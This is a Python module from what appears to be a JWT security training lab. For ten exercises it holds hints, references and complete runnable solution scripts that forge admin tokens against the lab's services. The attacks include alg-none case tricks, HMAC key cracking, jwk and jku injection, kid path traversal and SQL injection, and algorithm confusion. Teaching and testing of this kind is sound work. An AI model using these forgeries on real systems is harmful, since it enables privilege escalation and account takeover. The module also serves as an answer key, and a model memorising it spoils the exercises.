"""Lesson 04's hint ladders: for each flag a nudge, the technique with its reference, the steps.

The notebook gives each attack a goal and a clue only; the recipe lives here, behind
``lab.hint(name)``. Each steps hint ends in one self-contained ``python`` block that, given a
started ``lab``, performs the attack for real and calls the exercise's grader
(``tests/lessons/test_hints.py`` runs it on a fresh lab).
"""

from __future__ import annotations

_LOGIN = """\
mine = lab.client.post("/login", json=lab.users[0]).json()["access_token"]
claims = {**jwt.decode(mine, options={"verify_signature": False}), "role": "admin"}
"""

UNVERIFIED = f"""\
1. Decode the payload of your own token and set "role" to "admin".
2. Base64url-encode that JSON again and put it between your header and your signature.
3. Send it to /svc/profile/admin: the answer holds the flag.
```python
import base64
import json

import jwt

{_LOGIN}head, _, signature = mine.split(".")
body = base64.urlsafe_b64encode(json.dumps(claims).encode()).rstrip(b"=").decode()
bearer = {{"Authorization": f"Bearer {{head}}.{{body}}.{{signature}}"}}
answer = lab.client.get("/svc/profile/admin", headers=bearer)
flag_unverified = answer.json()["flag"]\nlab.check_flag("unverified-signature", flag_unverified)
```"""

ALG_NONE = f"""\
1. Write a header whose alg says the token is unsigned: "none", then "None", then "NONE".
2. Put admin claims after it and nothing after the last dot (an empty signature).
3. Send each to /svc/widgets/admin: "none" is refused, another spelling is not.
```python
import base64
import json

import jwt


def b64json(value):
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


{_LOGIN}for alg in ("none", "None", "NONE"):
    unsigned = f"{{b64json({{'alg': alg, 'typ': 'at+jwt'}})}}.{{b64json(claims)}}."
    auth = {{"Authorization": f"Bearer {{unsigned}}"}}
    answer = lab.client.get("/svc/widgets/admin", headers=auth)
    print(alg, answer.status_code)
flag_none = answer.json()["flag"]\nlab.check_flag("alg-none", flag_none)
```"""

CRACK_STEPS = """\
1. Take the legacy service's token from GET /ops/token-log (its header says HS256).
2. For each word of load_wordlist(), compute HMAC-SHA-256 of "header.payload" with the word
   as the key; the word whose MAC equals the token's signature is the key.
3. Sign admin claims under the same header with that word; call /svc/legacy/admin.
```python
import base64
import hashlib
import hmac
import json

import jwt

from labapp.lessons.common import load_wordlist


def b64(raw):
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def mac(key, text):
    return b64(hmac.new(key, text.encode(), hashlib.sha256).digest())


log = lab.client.get("/ops/token-log").json()
line = next(entry for entry in log if "/svc/legacy/" in entry)
captured = line.split("Bearer ")[1].rstrip('"')
head, body, signature = captured.split(".")
word = next(w for w in load_wordlist() if mac(w.encode(), f"{head}.{body}") == signature)
print("the legacy key is", repr(word))
claims = {**jwt.decode(captured, options={"verify_signature": False}), "role": "admin"}
forged = f"{head}.{b64(json.dumps(claims).encode())}"
forged += "." + mac(word.encode(), forged)
auth = {"Authorization": f"Bearer {forged}"}
answer = lab.client.get("/svc/legacy/admin", headers=auth)
flag_secret = answer.json()["flag"]\nlab.check_flag("weak-secret", flag_secret)
```"""

JWK = f"""\
1. Make an RSA key pair of your own (any attacker can).
2. Sign admin claims with your private key (RS256) and put your public key, as a JWK, in
   the header's "jwk" parameter.
3. Send it to /svc/partners/admin: the service checks your signature with your key.
```python
import json

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa

attacker = rsa.generate_private_key(65537, 2048)
public_jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(attacker.public_key()))
{_LOGIN}headers = {{"kid": "attacker", "jwk": public_jwk}}
forged = jwt.encode(claims, attacker, algorithm="RS256", headers=headers)
auth = {{"Authorization": f"Bearer {{forged}}"}}
answer = lab.client.get("/svc/partners/admin", headers=auth)
flag_jwk = answer.json()["flag"]\nlab.check_flag("jwk-injection", flag_jwk)
```"""

JKU = f"""\
1. Make an RSA key pair and serve its public JWK, in a JWK Set, from
   lab.attacker_server({{"/keys.json": {{"keys": [jwk]}}}}) (it returns the base URL).
2. Sign admin claims with your private key (RS256); header: "jku" = your set's URL,
   "kid" = your key's kid.
3. Send it to /svc/integrations/admin: the service fetches your set and trusts it.
```python
import json

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa

attacker = rsa.generate_private_key(65537, 2048)
text = jwt.algorithms.RSAAlgorithm.to_jwk(attacker.public_key())
public_jwk = {{**json.loads(text), "kid": "attacker"}}
base = lab.attacker_server({{"/keys.json": {{"keys": [public_jwk]}}}})
{_LOGIN}headers = {{"kid": "attacker", "jku": f"{{base}}/keys.json"}}
forged = jwt.encode(claims, attacker, algorithm="RS256", headers=headers)
auth = {{"Authorization": f"Bearer {{forged}}"}}
answer = lab.client.get("/svc/integrations/admin", headers=auth)
flag_jku = answer.json()["flag"]\nlab.check_flag("jku-injection", flag_jku)
```"""

KID_PATH = f"""\
1. GET /robots.txt: the server reads that file from its folder's static/robots.txt, and
   the files service reads keys from keys/<kid> in the same folder.
2. Sign admin claims with HS256, using the bytes of robots.txt as the key, with
   "kid": "../static/robots.txt".
3. Send it to /svc/files/admin.
```python
import jwt

robots = lab.client.get("/robots.txt").content
{_LOGIN}headers = {{"kid": "../static/robots.txt"}}
forged = jwt.encode(claims, robots, algorithm="HS256", headers=headers)
auth = {{"Authorization": f"Bearer {{forged}}"}}
answer = lab.client.get("/svc/files/admin", headers=auth)
flag_traversal = answer.json()["flag"]\nlab.check_flag("kid-traversal", flag_traversal)
```"""

KID_SQL = f"""\
1. The service runs SELECT secret FROM jwt_keys WHERE kid = '<kid>', your kid pasted in.
2. Choose a secret, and a kid that closes the quote and appends
   UNION SELECT '<your secret>', then -- to comment out the rest.
3. Sign admin claims with HS256 and your secret, under that kid; call /svc/inventory/admin.
```python
import jwt

secret = "a-secret-of-my-own-choosing-and-long-enough"
headers = {{"kid": f"nothing' UNION SELECT '{{secret}}' --"}}
{_LOGIN}forged = jwt.encode(claims, secret, algorithm="HS256", headers=headers)
auth = {{"Authorization": f"Bearer {{forged}}"}}
answer = lab.client.get("/svc/inventory/admin", headers=auth)
flag_sqli = answer.json()["flag"]\nlab.check_flag("kid-sqli", flag_sqli)
```"""

CONFUSION = f"""\
1. Fetch the issuer's public key from /.well-known/jwks.json and write it as PEM
   (SubjectPublicKeyInfo): these bytes are public.
2. Header {{"alg": "HS256", "kid": <the issuer's kid>}}, admin claims, and an HMAC-SHA-256
   signature keyed with the PEM bytes (by hand: PyJWT refuses a PEM as an HMAC key).
3. Send it to /svc/reports/admin.
```python
import base64
import hashlib
import hmac
import json

import jwt
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat


def b64(raw):
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


published = lab.client.get("/.well-known/jwks.json").json()
jwk = published["keys"][0]
pem = jwt.PyJWK(jwk).key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
{_LOGIN}header = {{"alg": "HS256", "typ": "at+jwt", "kid": jwk["kid"]}}
signed = f"{{b64(json.dumps(header).encode())}}.{{b64(json.dumps(claims).encode())}}"
forged = f"{{signed}}.{{b64(hmac.new(pem, signed.encode(), hashlib.sha256).digest())}}"
auth = {{"Authorization": f"Bearer {{forged}}"}}
answer = lab.client.get("/svc/reports/admin", headers=auth)
flag_confusion = answer.json()["flag"]\nlab.check_flag("alg-confusion", flag_confusion)
```"""

EXPIRED = """\
1. GET /ops/token-log and read each token's exp (peek() decodes it): one expired an hour
   ago, one has none.
2. Replay the expired one, unchanged, at /svc/archive/me (any accepted token earns it).
```python
log = lab.client.get("/ops/token-log").json()
line = next(entry for entry in log if "/svc/archive/me" in entry)
old = line.split("Bearer ")[1].rstrip('"')
auth = {"Authorization": f"Bearer {old}"}
answer = lab.client.get("/svc/archive/me", headers=auth)
print(answer.status_code, answer.json()["sub"])
flag_expired = answer.json()["flag"]\nlab.check_flag("expired", flag_expired)
```"""

AUDIENCE = """\
1. The route list (GET /openapi.json) shows a second login: POST /billing/login. Log in
   there as alice: the same issuer and key sign that token, for aud "billing".
2. Send the billing token to /svc/search/me (any accepted token earns it).
```python
billing = lab.client.post("/billing/login", json=lab.users[0]).json()["access_token"]
auth = {"Authorization": f"Bearer {billing}"}
answer = lab.client.get("/svc/search/me", headers=auth)
flag_audience = answer.json()["flag"]\nlab.check_flag("audience", flag_audience)
```"""

HINTS: dict[str, tuple[str, str, str]] = {
    "unverified-signature": (
        "You already hold a real token (alice_token). Look at its three parts with peek(). "
        "The profile service's story (GET /svc) says it only reads the token: which part "
        "would a service that only reads never look at?",
        "Claims tampering where the signature is never verified: CWE-347 (Improper "
        "Verification of Cryptographic Signature); PortSwigger Web Security Academy, JWT "
        "attacks, 'Accepting arbitrary signatures'. RFC 7519 §7.2 makes verifying the "
        "signature a mandatory step of validating a JWT.",
        UNVERIFIED,
    ),
    "alg-none": (
        "The header says how the token was signed, and RFC 7518 §3.6 defines an algorithm "
        "for tokens that are not signed at all. The widgets team says they closed that door "
        "last year: look at how a header value can be written in more than one way.",
        "Signature stripping with the unsigned algorithm, past a blocklist of one spelling: "
        "RFC 8725 §2.1 and §3.1 (the verifier, not the token, chooses the algorithm); "
        "RFC 7515 §4.1.1 ('alg' is case-sensitive); PortSwigger Web Security Academy, JWT "
        "attacks, 'Accepting tokens with no signature'; CWE-347.",
        ALG_NONE,
    ),
    "weak-secret": (
        "GET /ops/token-log: one logged token belongs to the legacy service. Read its header. "
        "With a token in hand, can you test guesses of its key without asking the server?",
        "Offline dictionary attack on an HMAC key: RFC 8725 §2.2 (Weak Symmetric Keys) and "
        "§3.5 (human-memorable passwords MUST NOT be HMAC keys); PortSwigger Web Security "
        "Academy, JWT attacks, 'Brute-forcing secret keys'; CWE-1391 (Use of Weak "
        "Credentials).",
        CRACK_STEPS,
    ),
    "jwk-injection": (
        "RFC 7515 §4.1 lists the parameters a JWS header may carry. One of them can carry "
        "a key. You have a key pair of your own (my_key, my_jwk).",
        "JWK header injection, a self-signed token: RFC 7515 §4.1.3 ('jwk'); RFC 8725 §3.8 "
        "(the keys must belong to the issuer); OWASP ASVS 5.0 V9.1.3; PortSwigger Web "
        "Security Academy, JWT attacks, 'Injecting self-signed JWTs via the jwk parameter'; "
        "CWE-347.",
        JWK,
    ),
    "jku-injection": (
        "RFC 7515 §4.1 again: one header parameter is a URL where keys live. The lab lets "
        "you run a second web server of your own: lab.attacker_server(documents).",
        "jku header injection: RFC 7515 §4.1.2 ('jku'); RFC 8725 §3.10 (match such URLs to "
        "an allowlist; SSRF); OWASP ASVS 5.0 V9.1.3; PortSwigger Web Security Academy, JWT "
        "attacks, 'Injecting self-signed JWTs via the jku parameter'; CWE-918 for the fetch.",
        JKU,
    ),
    "kid-traversal": (
        "The files service builds a file name from the kid. A key you can predict is as good "
        "as a key you stole: which file of this server can you read over HTTP "
        "(GET /openapi.json lists the routes)?",
        "kid path traversal: CWE-22 (Path Traversal); RFC 8725 §2.9 and §3.10 (validate "
        "the kid before a lookup); PortSwigger Web Security Academy, JWT attacks, "
        "'Injecting self-signed JWTs via the kid parameter'.",
        KID_PATH,
    ),
    "kid-sqli": (
        "The inventory service finds its key with a SQL query that contains the kid, as "
        "text. What could a kid make that query return?",
        "SQL injection through the kid, with a UNION SELECT of a value you choose: CWE-89; "
        "RFC 8725 §3.10 names this ('should ensure that this does not create SQL or LDAP "
        "injection vulnerabilities'); OWASP SQL Injection Prevention Cheat Sheet.",
        KID_SQL,
    ),
    "alg-confusion": (
        "The reports service holds one key, the issuer's public key, which anyone can fetch "
        "from /.well-known/jwks.json, and uses it for whichever algorithm the header names. "
        "What does an HMAC algorithm do with a key?",
        "Algorithm confusion (RS256 to HS256, the public key as an HMAC secret): RFC 8725 "
        "§2.1 and §3.1 (each key used with exactly one algorithm); CVE-2015-9235; PortSwigger "
        "Web Security Academy, JWT attacks, 'Algorithm confusion attacks'; CWE-347.",
        CONFUSION,
    ),
    "expired": (
        "GET /ops/token-log: a debug log kept whole Authorization headers. Decode each "
        "token's payload and compare its exp with time.time().",
        "Replay of an expired (or never-expiring) token: RFC 7519 §4.1.4 (MUST NOT be "
        "accepted on or after exp); RFC 9068 §2.2 (exp REQUIRED); OWASP ASVS 5.0 V9.2.1; "
        "CWE-613 (Insufficient Session Expiration).",
        EXPIRED,
    ),
    "audience": (
        "The same issuer and key may sign tokens for more than this API. GET /openapi.json "
        "lists every route of the lab; the token log has tokens too. Who is each token for "
        "(aud), and from whom (iss)?",
        "Token substitution (a token for another audience or issuer): RFC 8725 §2.7, §3.8 "
        "and §3.9; RFC 9068 §4 (iss MUST exactly match, aud MUST contain the resource "
        "server); OWASP ASVS 5.0 V9.2.3.",
        AUDIENCE,
    ),
}
